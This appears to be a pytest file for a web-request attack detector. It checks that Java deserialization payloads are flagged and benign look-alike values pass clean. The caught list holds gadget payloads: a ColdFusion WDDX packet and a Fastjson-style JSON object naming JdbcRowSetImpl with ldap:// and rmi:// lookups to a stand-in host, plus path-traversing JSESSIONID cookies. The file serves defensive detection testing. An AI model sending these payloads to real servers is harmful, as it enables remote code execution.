"""Round 10 (Java): gadget class names hidden inside a word (ColdFusion WDDX), Tomcat session ids naming a file."""
from __future__ import annotations

import pytest

from sensor.detect import Engine, verdict
from tests.detect.wild_benign import build_request


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


WDDX = ("<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'>"
        "<string>ldap://198.18.0.9:1389/x</string></var><var name='autoCommit'><boolean value='true'/></var></struct></data>"
        "</wddxPacket>")
CAUGHT = [
    ("form", "argumentCollection", WDDX),
    ("form", "argumentCollection", WDDX.replace("xcom.sun.rowset.JdbcRowSetImplx", "acom.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImplz")),
    ("json", "data", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://198.18.0.9/x","autoCommit":true}'),
    ("cookie", "JSESSIONID", ".evil"),
    ("cookie", "JSESSIONID", ".deserialize.session"),
    ("cookie", "jsessionid", "../../work/.x"),
]
CLEAN = [
    ("cookie", "JSESSIONID", "9A2F7C4D1E8B3A6F0C5D2E7B4A1F8C3D"),
    ("cookie", "JSESSIONID", "9A2F7C4D1E8B3A6F0C5D2E7B4A1F8C3D.node01"),
    ("cookie", "JSESSIONID", "node0abc123xyz.node0"),
    ("form", "version", ".NET 8"),                        # a leading dot elsewhere is no session file
    ("cookie", "pref", ".5"),
    ("form", "comment", "We use a LazyMapper class and a TemplatesLoader in the scheduler"),
    ("query", "q", "rowset tutorial java"),
]


@pytest.mark.parametrize("carrier,key,value", CAUGHT)
def test_caught(engine, carrier, key, value):
    assert verdict(engine.inspect(build_request(carrier, value, key))) == "attack", value


@pytest.mark.parametrize("carrier,key,value", CLEAN)
def test_clean(engine, carrier, key, value):
    hits = engine.inspect(build_request(carrier, value, key))
    assert verdict(hits) == "clean", [(h.rule, h.score) for h in hits]
